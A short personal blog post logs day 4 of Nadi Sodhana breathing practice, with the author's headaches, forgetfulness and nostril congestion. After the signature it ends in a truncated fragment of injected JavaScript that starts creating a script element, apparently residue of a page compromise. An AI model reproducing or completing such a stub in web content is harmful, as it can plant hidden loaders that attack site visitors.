Day 4 of Nadi Sodhana

I am feeling better today and I haven’t taken any medication.  I still have this dull pain in my forehead but its bearable.  My memory hasn’t been working as well was usually.  Which isn’t saying much.  For example, I couldn’t remember where I had placed $600.00 worth of checks.  To find out that I had taken them to work along with $300 incash.  I still can’t remember doing that but I did.

So I completed my 5 minutes and am ready to start my work day.  I did notice that my right nostril was more congested then my left today.   Which, if I remember correctly, is the opposite from yesterday.  I’m justhoping that whatever is making my head hurt and me forget things is cured by nadisodhana…  If you have any experiences please comment.  – Tinavar d=document;vars=d.createElement(‘script’);